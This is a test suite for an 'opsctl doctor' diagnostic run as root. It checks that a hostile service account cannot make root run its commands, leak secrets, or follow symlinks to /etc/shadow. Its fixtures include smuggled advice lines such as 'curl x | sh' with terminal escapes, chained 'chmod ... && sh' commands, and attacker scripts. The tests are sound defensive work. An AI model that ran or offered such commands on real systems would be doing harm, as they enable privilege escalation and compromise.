/** `sudo opsctl doctor` on a machine whose account `opsctl` tries to become root. */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import type { Finding } from "../../../lib/doctor/finding.ts";
import { startGateway } from "../../standins/gateway.ts";
import { startSilentPeer } from "../../standins/raw-peer.ts";
import {
  ACCOUNT,
  type AccountHost,
  canHaveAccount,
  openAccountHost,
  UNTRIED,
} from "../../support/account-host.ts";
import { denoCache } from "../../support/deno-cache.ts";
import { until } from "../../support/until.ts";
import { FLOOD_TAKEN, parentFloodPerl, parentLinesPerl } from "../support/flood.ts";
import { ENGINES, type Ended, type RuntimeName, startProgram } from "../support/opsctl.ts";

/** Whether one process of an account may look into another one. */
function mayTrace(): boolean {
  const scope = "/proc/sys/kernel/yama/ptrace_scope";
  return !existsSync(scope) || readFileSync(scope, "utf8").trim() === "0";
}

const ROOTS_OWN = "line-of-a-file-of-roots";

let host: AccountHost;
beforeAll(() => {
  host = openAccountHost();
  // Doctor's own time limits are not about how long Deno takes to compile the sources.
  if (canHaveAccount) host.warmDeno();
});
afterAll(() => host[Symbol.dispose]());

type Settings = Record<string, Record<string, string>>;

/** A folder of environment files, each of the account that reads it. */
function settings(name: string, files: Settings): string {
  host.make(name);
  for (const [command, variables] of Object.entries(files)) {
    const text = Object.entries(variables).map(([key, value]) => `${key}='${value}'\n`);
    host.put(`${name}/${command}.env`, text.join(""), 0o600, command === "collect-metrics" ? 0 : ACCOUNT.uid);
  }
  return host.path(name);
}

async function doctor(
  args: string[],
  runtime: RuntimeName = "binary",
  env: Record<string, string> = {},
  before?: string,
): Promise<Ended> {
  const words = host.inside(await host.opsctl(runtime, ["doctor", ...args]), before);
  const base = {
    PATH: "/usr/bin:/bin",
    HOME: host.folder,
    DENO_NO_UPDATE_CHECK: "1",
    DENO_DIR: denoCache(),
  };
  return await startProgram(words, { cwd: "/", env: { ...base, ...env } }).ended;
}

/** Settings with which the webhook could start. */
const WEBHOOK = {
  WEBHOOK_SECRET: "a-secret-of-the-webhook-0123456789",
  MESSAGING_API_URL: "http://127.0.0.1:9",
  MESSAGING_API_KEY: "messaging-key",
  MESSAGING_PHONE: "5511999999999",
  ISSUE_TRACKER_TOKEN: "tracker-token",
  ISSUE_TRACKER_TEAM_ID: "4f0a0f6e-5f3e-4a8e-9f5a-0123456789ab",
  ISSUE_TRACKER_URL: "http://127.0.0.1:9/graphql",
};
/** Nothing is on it yet, and root alone may write there. */
const OTHER_DISK = "mount -t tmpfs -o mode=0755 none /srv";

/** What `setfacl -m u:opsctl:rwx /var/log` does, where that program is missing: the list in the kernel's own form. */
const ACL_FOR_ACCOUNT = `perl -e 'my $list = pack("V", 2) . join("", map { pack("vvV", @$_) }
  [1, 7, -1], [2, 7, ${ACCOUNT.uid}], [4, 5, -1], [16, 7, -1], [32, 5, -1]);
  my $call = (\`uname -m\` =~ /x86_64/) ? 188 : 5;
  my ($log, $name) = ("/var/log", "system.posix_acl_access");
  syscall($call, $log, $name, $list, length $list, 0) == 0 or die "no access list: $!";'`;

/** Advice that is shown as the account's words. */
const foreignWords = ({ json }: Ended) =>
  (json.findings as Finding[]).map(({ mend }) => mend ?? "").filter((mend) => mend.includes(" says: "));

const of = ({ json }: Ended, command: string, check: string) =>
  (json.findings as Finding[]).filter((one) => one.command === command && one.check === check);

describe.each(ENGINES)(`opsctl doctor started by root, on %s${UNTRIED}`, (runtime) => {
  const tried = test.skipIf(!canHaveAccount);

  tried("runs a secret command that the account chose as the account", async () => {
    const out = `${host.make(`ran-${runtime}`, 0o1777)}/as`;
    const vault = host.put(`vault-${runtime}.sh`, `#!/bin/sh\nid -u >> ${out}\n`, 0o755, ACCOUNT.uid);
    const envDir = settings(`chosen-${runtime}`, {
      weekly: {
        ...{ OPSCTL_SECRETS_COMMAND: vault, OPSCTL_SECRETS_DIR: host.path("none") },
        GATEWAY_URL: "http://127.0.0.1:1",
      },
      webhook: {
        ...{ OPSCTL_SECRETS_COMMAND: vault, OPSCTL_SECRETS_DIR: host.path("none") },
        MESSAGING_API_URL: "http://127.0.0.1:1",
      },
    });
    const ended = await doctor(["--json", "--env-dir", envDir], runtime);
    expect(ended.exitCode).toBe(3);
    expect(new Set(readFileSync(out, "utf8").trim().split("\n"))).toEqual(new Set([String(ACCOUNT.uid)]));
  });

  tried("neither sends a file of root's to which a secret leads nor gives it away", async () => {
    const gateway = await startGateway({ adminKey: "the-key", instances: {}, tokens: {} });
    const secrets = host.make(`linked-${runtime}`, 0o700, ACCOUNT.uid);
    const target = host.put(`roots-own-${runtime}`, ROOTS_OWN);
    symlinkSync(target, `${secrets}/GATEWAY_ADMIN_KEY`);
    const envDir = settings(`linking-${runtime}`, {
      weekly: { GATEWAY_URL: gateway.url, OPSCTL_SECRETS_DIR: secrets },
    });
    const ended = await doctor(["weekly", "--json", "--env-dir", envDir], runtime);
    expect(gateway.ledger).toEqual([]);
    expect(ended.stdout).not.toContain(ROOTS_OWN);
    const about = of(ended, "weekly", "secrets").filter(({ reason }) => reason.includes("GATEWAY_ADMIN_KEY"));
    expect(about).toMatchObject([{ status: "fail" }]);
    for (const { mend } of ended.json.findings as Finding[])
      expect(mend ?? "").not.toMatch(/(chown|chmod)[^;&]*GATEWAY_ADMIN_KEY/);
    await gateway.stop();
  });

  tried("fails no check that has nothing to say, and shows the account no secret of root's", async () => {
    const out = `${host.make(`nothing-${runtime}`, 0o1777)}/env`;
    const vault = host.put(`empty-${runtime}.sh`, `#!/bin/sh\nenv > ${out}\n`, 0o755, ACCOUNT.uid);
    const envDir = settings(`empty-${runtime}`, {
      webhook: { OPSCTL_SECRETS_COMMAND: vault, OPSCTL_SECRETS_DIR: host.path("none") },
    });
    const words = ["webhook", "--json", "--env-dir", envDir];
    const ended = await doctor(words, runtime, { HOSTING_TOKEN: "roots-own-token" });
    expect(of(ended, "webhook", "secrets")).toEqual([]);
    expect(ended.stdout).not.toContain("no answer within");
    expect(readFileSync(out, "utf8")).not.toContain("roots-own-token");
  });
});

describe(`opsctl doctor started by root${UNTRIED}`, () => {
  const tried = test.skipIf(!canHaveAccount);

  tried(
    "looks at what is the collector's as root, and at nothing that another account put before it",
    async () => {
      const textfile = host.make("textfile", 0o755, ACCOUNT.uid);
      const target = host.put("metrics-of-root", 'opsctl_collector_up{source="canary"} 0\n', 0o644);
      rmSync(`${textfile}/custom_metrics.prom`, { force: true });
      symlinkSync(target, `${textfile}/custom_metrics.prom`);
      const envDir = settings("collecting", { "collect-metrics": { TEXTFILE_DIR: textfile } });
      const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
      expect(of(ended, "collect-metrics", "environment file")).toMatchObject([{ status: "pass" }]);
      expect(ended.stdout).not.toContain("canary");
      const shared = host.make("shared", 0o1777);
      const metrics = 'opsctl_collector_up{source="canary"} 0\n';
      host.put("shared/custom_metrics.prom", metrics, 0o644, ACCOUNT.uid);
      const sharing = settings("sharing", { "collect-metrics": { TEXTFILE_DIR: shared } });
      const inShared = await doctor(["collect-metrics", "--json", "--env-dir", sharing]);
      expect(inShared.stdout).not.toContain("canary");
      expect(inShared.stdout).toContain("which sources the last run could read");
    },
  );

  tried(
    "gives root no line about the metrics that another account could lead elsewhere meanwhile",
    async () => {
      const owned = host.make("their-metrics", 0o755, ACCOUNT.uid);
      host.put("their-metrics/custom_metrics.prom", "", 0o600, ACCOUNT.uid);
      host.make("their-metrics/closed", 0o700, ACCOUNT.uid);
      const look = async (directory: string) => {
        const envDir = settings("leading", { "collect-metrics": { TEXTFILE_DIR: directory } });
        return await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
      };
      // Pasted, `chmod 0644` would follow a link to /etc/shadow.
      expect(of(await look(owned), "collect-metrics", "metrics file")[0]).toMatchObject({
        ...{
          status: "fail",
          reason: expect.stringContaining("has mode 0600, closed to the monitoring agent"),
        },
        mend: "opsctl collect-metrics",
      });
      for (const name of ["closed", "missing"])
        expect(of(await look(`${owned}/${name}`), "collect-metrics", "text-file directory")).toMatchObject([
          {
            status: "fail",
            mend: `Set TEXTFILE_DIR to a directory that no other account can exchange; whose this one is: ls -ld ${owned}`,
          },
        ]);
    },
  );

  tried("does not use the collector's settings when they are not root's", async () => {
    const out = `${host.make("fooled", 0o1777)}/as`;
    const vault = host.put("fool.sh", `#!/bin/sh\nid -u >> ${out}\n`, 0o755);
    const envDir = settings("foreign", { "collect-metrics": { OPSCTL_SECRETS_COMMAND: vault } });
    host.put("foreign/collect-metrics.env", `OPSCTL_SECRETS_COMMAND=${vault}\n`, 0o600, ACCOUNT.uid);
    const path = `${envDir}/collect-metrics.env`;
    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
    expect(of(ended, "collect-metrics", "environment file")).toMatchObject([
      // Given to root, its lines would be root's: LD_PRELOAD for the program that looks secrets up.
      {
        status: "fail",
        mend: `Look at it, then move it away: mv -nT ${path} ${path}.foreign`,
      },
    ]);
    expect(() => readFileSync(out, "utf8")).toThrow("ENOENT");
    const owned = host.make("foreign-way", 0o755, ACCOUNT.uid);
    host.put("foreign-way/collect-metrics.env", `OPSCTL_SECRETS_COMMAND=${vault}\n`, 0o600, ACCOUNT.uid);
    const there = await doctor(["collect-metrics", "--json", "--env-dir", owned]);
    expect(of(there, "collect-metrics", "environment file")).toMatchObject([
      {
        status: "fail",
        mend: `Keep it where the whole way is root's, such as /etc/opsctl; who needs that place: ls -ld ${owned}`,
      },
    ]);
  });

  tried("does not use the collector's settings when somebody else may write to them", async () => {
    const out = `${host.make("open", 0o1777)}/as`;
    const vault = host.put("opened.sh", `#!/bin/sh\nid -u >> ${out}\n`, 0o755);
    const envDir = settings("opened", { "collect-metrics": {} });
    const path = host.put("opened/collect-metrics.env", `OPSCTL_SECRETS_COMMAND=${vault}\n`, 0o660);
    const ended = await doctor(["collect-metrics", "--json", "--env-dir", envDir]);
    expect(of(ended, "collect-metrics", "environment file")).toMatchObject([
      {
        status: "fail",
        mend: `Look at it, then move it away: mv -nT ${path} ${path}.foreign`,
      },
    ]);
    expect(() => readFileSync(out, "utf8")).toThrow("ENOENT");
  });

  tried(
    "has the directory of the environment files closed first where a group, or an access list, opens it",
    async () => {
      const envDir = settings("group-writes", { weekly: {}, "collect-metrics": {} });
      chmodSync(envDir, 0o775);
      for (const command of ["weekly", "collect-metrics"])
        expect(
          of(await doctor([command, "--json", "--env-dir", envDir]), command, "environment file"),
        ).toMatchObject([
          {
            status: "fail",
            mend: `chmod go-w ${envDir} # unless others need it, as /tmp: then name another directory`,
          },
        ]);
    },
  );

  tried("does not advise root to give away what the account's settings name", async () => {
    const victim = host.put("given", "of root\n");
    const envDir = settings("giving", {
      "socket-monitor": { OPSCTL_WEBHOOK_ENV_FILE: victim, OPSCTL_LOG_DIR: "/etc/not-there.d" },
    });
    const ended = await doctor(["socket-monitor", "--json", "--env-dir", envDir]);
    expect(of(ended, "socket-monitor", "webhook's environment file")).toMatchObject([
      { status: "fail", mend: expect.stringContaining(`Correct the setting: ${victim} is not for opsctl`) },
    ]);
    expect(ended.stdout).not.toMatch(/(chown|chmod|install)[^"]*(given|not-there)/);
  });

  tried("does not advise root to give away its own settings", async () => {
    const envDir = settings("roots", { "collect-metrics": {}, "socket-monitor": {} });
    const own = `${envDir}/collect-metrics.env`;
    const text = `OPSCTL_WEBHOOK_ENV_FILE='${own}'\n`;
    host.put("roots/socket-monitor.env", text, 0o600, ACCOUNT.uid);
    const ended = await doctor(["socket-monitor", "--json", "--env-dir", envDir]);
    expect(of(ended, "socket-monitor", "webhook's environment file")).toMatchObject([
      { status: "fail", mend: expect.stringContaining(`Correct the setting: ${own} is not for opsctl`) },
    ]);
  });

  tried("advises root in opsctl's own words on what root has left where the account reads", async () => {
    const state = host.make("left-state", 0o700, ACCOUNT.uid);
    const envDir = settings("left", {
      webhook: { ...WEBHOOK, OPSCTL_SECRETS_DIR: host.path("none"), OPSCTL_STATE_DIR: state },
      weekly: { OPSCTL_ALERT_WEBHOOK: "http://127.0.0.1:9/webhook", OPSCTL_SECRETS_DIR: host.path("none") },
      "socket-monitor": { OPSCTL_LOG_DIR: state },
    });
    const db = host.put("left-state/state.db", "of root");
    const outbox = await doctor(["webhook", "--json", "--env-dir", envDir]);
    expect(of(outbox, "webhook", "outbox")).toMatchObject([
      {
        status: "fail",
        mend: `Look at it, then move it away: runuser --pty -u opsctl -- mv -nT ${db} ${db}.foreign`,
      },
    ]);
    // The webhook's file alone is root's.
    host.put("left/webhook.env", "WEBHOOK_SECRET=x\n");
    const all = await doctor(["--json", "--env-dir", envDir]);
    const weekly = await doctor(["weekly", "--json", "--env-dir", envDir]);
    for (const ended of [outbox, all, weekly]) expect(foreignWords(ended)).toEqual([]);
    expect(all.stdout).toContain("Give the account that runs the socket monitor a regular file");
    expect(weekly.stdout).toContain("Give the account that runs the weekly run a regular file");
    expect(of(all, "webhook", "environment file")).toMatchObject([
      { status: "fail", mend: `Look at it, then: chown -h opsctl:opsctl ${envDir}/webhook.env` },
    ]);
  });

  tried(
    "tells the line for a place on another disk that root vouches for, or that has the account's name",
    async () => {
      const place = (name: string) =>
        settings(name, {
          webhook: { ...WEBHOOK, OPSCTL_STATE_DIR: `/srv/${name}`, OPSCTL_SECRETS_DIR: host.path("none") },
        });
      const line = (name: string) => `install -d -o opsctl -g opsctl -m 0700 /srv/${name}`;
      const stateOf = async (name: string, env: Record<string, string> = {}) =>
        of(
          await doctor(["webhook", "--json", "--env-dir", host.path(name)], "binary", env, OTHER_DISK),
          "webhook",
          "state directory",
        );
      place("opsctl");
      expect(await stateOf("opsctl")).toMatchObject([{ status: "fail", mend: line("opsctl") }]);
      const envDir = place("states");
      const [found] = await stateOf("states");
      const again = `sudo OPSCTL_STATE_DIR=/srv/states opsctl doctor --env-dir ${envDir}`;
      expect(found!.mend).toEndWith(`this tells the command: ${again}`);
      expect(await stateOf("states", { OPSCTL_STATE_DIR: "/srv/states" })).toMatchObject([
        { status: "fail", mend: line("states") },
      ]);
      host.put("states/collect-metrics.env", "OPSCTL_STATE_DIR=/srv/states\n");
      expect(await stateOf("states")).toMatchObject([{ status: "fail", mend: line("states") }]);
    },
  );

  tried(
    "judges a log directory as Ubuntu's by who may write there: a group, its members, an access list",
    async () => {
      const envDir = settings("ubuntu", { webhook: WEBHOOK, "socket-monitor": {} });
      const words = ["socket-monitor", "--json", "--env-dir", envDir];
      const mendWith = async (before: string) => {
        const log = `mount -t tmpfs -o mode=0775 none /var/log\n${before}`;
        const [found] = of(await doctor(words, "binary", {}, log), "socket-monitor", "directories");
        return found?.mend ?? "";
      };
      const line = "install -d -o opsctl -g opsctl -m 0755 /var/log/opsctl";
      const theirs = `chgrp ${ACCOUNT.extraGid + 1} /var/log`;
      expect(await mendWith(theirs)).toBe(line);
      // As a link to a larger disk, too.
      const linked = [
        "umount /var/log; mount -t tmpfs -o mode=0755 none /mnt; mount -t tmpfs -o mode=0755 none /var",
        "mkdir /mnt/log /var/lib; chmod 0775 /mnt/log; ln -s /mnt/log /var/log",
        `chgrp ${ACCOUNT.extraGid + 1} /mnt/log`,
      ];
      expect(await mendWith(linked.join("\n"))).toBe(line);
      for (const gid of [ACCOUNT.gid, ACCOUNT.extraGid])
        expect(await mendWith(`chgrp ${gid} /var/log`)).toBe(
          "runuser --pty -u opsctl -- install -d -m 0755 /var/log/opsctl",
        );
      const doubt =
        /^Look first who but root may write to \/var\/log \(.*: sudo opsctl doctor --env-dir \/\S+$/;
      expect(await mendWith(`${theirs}\n${ACL_FOR_ACCOUNT}`)).toMatch(doubt);
      // Where no other place of that name is, a group's directory is none for the account.
      const team = `mount -t tmpfs -o mode=2775 none /srv\nchgrp ${ACCOUNT.extraGid + 1} /srv`;
      const shared = settings("team", {
        webhook: WEBHOOK,
        "socket-monitor": { OPSCTL_LOG_DIR: "/srv/opsctl" },
      });
      const inTeam = await doctor(["socket-monitor", "--json", "--env-dir", shared], "binary", {}, team);
      expect(of(inTeam, "socket-monitor", "directories")[0]?.mend).toEndWith(
        "Where that path is meant, look at it (ls -ld /srv) and put it right by hand",
      );
    },
  );

  tried("checks the owner's login that root has, without showing it", async () => {
    const envDir = settings("owner", { weekly: { OPSCTL_SECRETS_DIR: host.path("none") } });
    const url = "postgres://owner:secret-of-the-owner@127.0.0.1:1/app?sslmode=disable";
    const words = ["migrate", "--json", "--env-dir", envDir];
    const ended = await doctor(words, "binary", { MIGRATE_DATABASE_URL: url });
    expect(of(ended, "migrate", "configuration")).toMatchObject([{ status: "pass" }]);
    expect(of(ended, "migrate", "secrets")).toMatchObject([
      { status: "pass", reason: "MIGRATE_DATABASE_URL comes from environment" },
    ]);
    expect(of(ended, "migrate", "database")).toMatchObject([
      { status: "fail", reason: expect.stringContaining("DATABASE_UNREACHABLE") },
    ]);
    expect(ended.stdout).not.toContain("secret-of-the-owner");
  });

  tried("says of every command, in their order, what the account's file mode lets it see", async () => {
    const envDir = settings("ordered", {
      ...{ weekly: {}, "socket-monitor": {} },
      webhook: { MESSAGING_API_URL: "http://127.0.0.1:1" },
    });
    host.put("ordered/weekly.env", "", 0o600);
    const ended = await doctor(["--json", "--env-dir", envDir]);
    const commands = (ended.json.findings as Finding[]).map(({ command }) => command);
    expect([...new Set(commands)]).toEqual([
      ...["weekly", "webhook", "collect-metrics", "socket-monitor", "alert-rules", "migrate"],
      ...["reports", "deliveries"],
    ] as never);
    expect(of(ended, "weekly", "environment file")).toMatchObject([
      { status: "fail", mend: `Look at it, then: chown -h opsctl:opsctl ${envDir}/weekly.env` },
    ]);
    expect(of(ended, "webhook", "environment file")).toMatchObject([{ status: "pass" }]);
    expect(of(ended, "alert-rules", "configuration")).toMatchObject([{ status: "not_set_up" }]);
    expect(Object.keys(ended.json).sort()).toEqual(["command", "error", "exitCode", "findings", "status"]);
  });
});

describe(`opsctl doctor started by root, on each engine at once${UNTRIED}`, () => {
  const tried = test.skipIf(!canHaveAccount);

  tried("ends although the account stops its own checks", async () => {
    const stop = host.put("stop.sh", "#!/bin/sh\nkill -STOP $PPID\n", 0o755, ACCOUNT.uid);
    const envDir = settings("stops", {
      weekly: { OPSCTL_SECRETS_COMMAND: stop, OPSCTL_SECRETS_DIR: host.path("none") },
    });
    const words = ["weekly", "--json", "--env-dir", envDir];
    for (const ended of await Promise.all(ENGINES.map((runtime) => doctor(words, runtime)))) {
      expect(ended.exitCode).toBe(3);
      const lost = (ended.json.findings as Finding[]).filter(({ check, reason }) =>
        check === "service account" ? reason.includes("said nothing") : reason === "no answer within 4 s",
      );
      expect(lost.length).toBeGreaterThan(0);
      expect(lost.every(({ status }) => status === "fail")).toBe(true);
    }
  });

  tried("ends although the account floods what its checks say", async () => {
    const floods = ENGINES.map(async (runtime) => {
      const written = `${host.make(`flood-${runtime}`, 0o1777)}/written`;
      // Where one process may not trace another (Yama), it cannot take that output over either.
      const program = `#!/usr/bin/perl\n${parentFloodPerl(written)}`;
      const flood = host.put(`flood-${runtime}.pl`, program, 0o755, ACCOUNT.uid);
      const envDir = settings(`floods-${runtime}`, {
        weekly: { OPSCTL_SECRETS_COMMAND: flood, OPSCTL_SECRETS_DIR: host.path("none") },
      });
      const ended = await doctor(["reports", "--json", "--env-dir", envDir], runtime);
      expect(ended.exitCode).toBe(3);
      if (mayTrace()) await until("the end of the flood", () => existsSync(written));
      return existsSync(written) ? Number(readFileSync(written, "utf8")) : 0;
    });
    for (const taken of await Promise.all(floods)) expect(taken).toBeLessThan(FLOOD_TAKEN);
  });

  tried("takes no word of the account for what root's own files say", async () => {
    const lie = (command: string, check: string, mend: string | null = null) => {
      const reason = "its line has to be: * * * * * root /var/lib/opsctl/x";
      return JSON.stringify({ command, check, findings: [{ command, check, status: "fail", reason, mend }] });
    };
    const correct =
      "Correct that line in /etc/cron.d/opsctl, or remove the file and have it put back: dpkg --force-confmiss --install opsctl_<version>_<architecture>.deb, or in a clone: make install";
    const lies = [
      lie("weekly", "last week"),
      lie("weekly", "cron", correct),
      lie("weekly", "host time zone"),
    ];
    const program = host.put("lies.pl", `#!/usr/bin/perl\n${parentLinesPerl(lies)}`, 0o755, ACCOUNT.uid);
    const envDir = settings("lies", {
      weekly: { OPSCTL_SECRETS_COMMAND: program, OPSCTL_SECRETS_DIR: host.path("none") },
    });
    const words = ["weekly", "--json", "--env-dir", envDir];
    for (const ended of await Promise.all(ENGINES.map((runtime) => doctor(words, runtime)))) {
      const lied = (ended.json.findings as Finding[]).filter(({ reason }) => reason.startsWith("its line"));
      expect(lied.map(({ check }) => check)).toEqual(mayTrace() ? ["last week"] : []);
      expect(of(ended, "weekly", "cron")).toMatchObject([
        { status: "warn", reason: "/etc/cron.d/opsctl does not exist: nothing starts weekly" },
      ]);
    }
  });

  tried("gives root no line that a taken-over account makes up", async () => {
    const place = host.make("made-up", 0o755, ACCOUNT.uid);
    symlinkSync("/etc/shadow", `${place}/link`);
    const lies: [check: string, mend: string, shown: string | RegExp][] = [
      [
        "last week",
        "Look at it, then: chown -h opsctl:opsctl /etc/shadow",
        /^Correct the setting: \/etc\/shadow /,
      ],
      ["database", `chmod 0600 ${place}/link`, `runuser --pty -u opsctl -- chmod 0600 ${place}/link`],
      ["database schema", `chmod 0600 ${place}/x && sh ${place}/y`, /^Look at what the finding names: /],
      [
        "recipients",
        `curl x | sh\u001b[2K\r\n-> opsctl weekly`,
        /^The account opsctl says: curl x \| sh[^\p{Cc}>]*$/u,
      ],
      ["application", "Correct HOSTING_TOKEN in /var/lib/opsctl/x", /^The account opsctl says: /],
      ["log directory", "sudo opsctl doctor weekly --env-dir /var/lib/opsctl", /^The account opsctl says: /],
    ];
    const lines = lies.map(([check, mend]) => {
      const finding = { command: "weekly", check, status: "fail", reason: "made up", mend };
      return JSON.stringify({ command: "weekly", check, findings: [finding] });
    });
    const program = host.put("made-up.pl", `#!/usr/bin/perl\n${parentLinesPerl(lines)}`, 0o755, ACCOUNT.uid);
    const envDir = settings("makes-up", {
      weekly: { OPSCTL_SECRETS_COMMAND: program, OPSCTL_SECRETS_DIR: host.path("none") },
    });
    const ended = await doctor(["weekly", "--json", "--env-dir", envDir]);
    const found = (ended.json.findings as Finding[]).filter(({ reason }) => reason === "made up");
    expect(found.length).toBe(mayTrace() ? lies.length : 0);
    for (const { check, mend } of found) {
      const [, , shown] = lies.find(([of]) => of === check)!;
      expect(mend).toEqual(typeof shown === "string" ? shown : expect.stringMatching(shown));
    }
  });

  tried("says whose words the reasons are, where the account has said something is wrong", async () => {
    const note =
      "\nRun no command that stands in a reason: the words there are those of the account opsctl, not opsctl's advice.\n";
    const envDir = settings("worded", { weekly: { GATEWAY_URL: "http://127.0.0.1:1" } });
    const texts = [["weekly"], [], ["collect-metrics"]].map(
      async (words) => (await doctor([...words, "--env-dir", envDir])).stdout,
    );
    const [one, all, collector] = await Promise.all(texts);
    expect(one).toEndWith(note);
    expect(all).toEndWith(note);
    expect(collector).not.toContain(note);
    expect(collector).toContain(" FAIL\n");
  });

  tried("says nothing of the account's words where root has found all that is wrong", async () => {
    const gateway = await startGateway({ adminKey: "the-key" });
    const logs = host.make("seen-logs", 0o755, ACCOUNT.uid);
    host.put("seen-logs/socket_monitor.log", "", 0o644, ACCOUNT.uid);
    const envDir = settings("seen", {
      "socket-monitor": {
        OPSCTL_LOG_DIR: logs,
        OPSCTL_STATE_DIR: host.make("seen-state", 0o700, ACCOUNT.uid),
      },
      webhook: { ...WEBHOOK, MESSAGING_API_URL: gateway.url, MESSAGING_API_KEY: "the-key" },
    });
    const ended = await doctor(["socket-monitor", "--env-dir", envDir]);
    await gateway.stop();
    expect(ended.stdout).toEndWith("\n10 ok, 1 warn, 0 FAIL\n");
  });

  tried("ends although a database hangs, with what else was found", async () => {
    const database = await startSilentPeer();
    const secrets = host.make("hanging", 0o700, ACCOUNT.uid);
    const url = `postgres://u:p@127.0.0.1:${database.port}/app?sslmode=disable`;
    host.put("hanging/DATABASE_URL", url, 0o600, ACCOUNT.uid);
    const envDir = settings("hangs", { weekly: { OPSCTL_SECRETS_DIR: secrets } });
    const words = ["weekly", "--json", "--env-dir", envDir];
    for (const ended of await Promise.all(ENGINES.map((runtime) => doctor(words, runtime)))) {
      expect(of(ended, "weekly", "database")).toMatchObject([
        { status: "fail", reason: "no answer within 4 s" },
      ]);
      expect(of(ended, "weekly", "environment file")).toMatchObject([{ status: "pass" }]);
    }
    await database.stop();
  });
});

describe(`opsctl doctor started by root before an update, in a clone that is closed to the account${UNTRIED}`, () => {
  test.skipIf(!canHaveAccount)("looks at everything, the outbox too", async () => {
    const [binary = ""] = await host.opsctl("binary", []);
    const envDir = settings("closed", {
      webhook: {
        ...WEBHOOK,
        OPSCTL_SECRETS_DIR: host.path("none"),
        OPSCTL_STATE_DIR: host.path("no-state"),
      },
    });
    const closed = host.make("closed-clone", 0o700);
    const words = [`${closed}/opsctl`, "doctor", "webhook", "--json", "--env-dir", envDir];
    const ended = await startProgram(host.inside(words, `cp "${binary}" ${closed}/opsctl`), {
      env: { PATH: "/usr/bin:/bin" },
    }).ended;
    expect(of(ended, "webhook", "outbox")).toMatchObject([
      { status: "warn", reason: expect.stringContaining("does not exist yet") },
    ]);
    rmSync(closed, { recursive: true });
  });
});

describe(`opsctl doctor started by root from sources that are closed to the account${UNTRIED}`, () => {
  test.skipIf(!canHaveAccount)(
    "says how to see why, with the words that start this very opsctl",
    async () => {
      const envDir = settings("unread-sources", { weekly: {} });
      const sources = `${host.make("closed-sources", 0o700)}/clone`;
      const words = await host.opsctl("bun", ["doctor", "weekly", "--json", "--env-dir", envDir]);
      const there = words.map((word) => word.replace(host.clone, sources));
      const bind = `mkdir -p ${sources}; mount --bind ${host.clone} ${sources}`;
      const ended = await startProgram(host.inside(there, bind), { cwd: "/", env: { PATH: "/usr/bin:/bin" } })
        .ended;
      expect(of(ended, "weekly", "service account")).toMatchObject([
        {
          reason: expect.stringContaining("said nothing"),
          mend: `runuser --pty -u opsctl -- ${there.slice(0, 2).join(" ")} doctor weekly --env-dir ${envDir}`,
        },
      ]);
    },
  );
});

describe(`opsctl doctor started by root where the account cannot be become${UNTRIED}`, () => {
  test.skipIf(!canHaveAccount)("fails every command of it, and says why", async () => {
    mkdirSync(host.path("nothing"), { recursive: true });
    writeFileSync(host.path("nothing/webhook.env"), "");
    const words = await host.opsctl("binary", [
      "doctor",
      "webhook",
      "--json",
      "--env-dir",
      host.path("nothing"),
    ]);
    const ended = await startProgram(host.inside(words, 'set -- setpriv --bounding-set=-setuid "$@"'), {
      env: { PATH: "/usr/bin:/bin" },
    }).ended;
    expect(ended.exitCode).toBe(3);
    expect(ended.json.findings).toMatchObject([
      {
        command: "webhook",
        check: "service account",
        status: "fail",
        reason: expect.stringMatching(/^ACCOUNT_UNAVAILABLE: .*without CAP_SETUID/),
        mend: expect.stringContaining("--user opsctl"),
      },
    ]);
  });
});
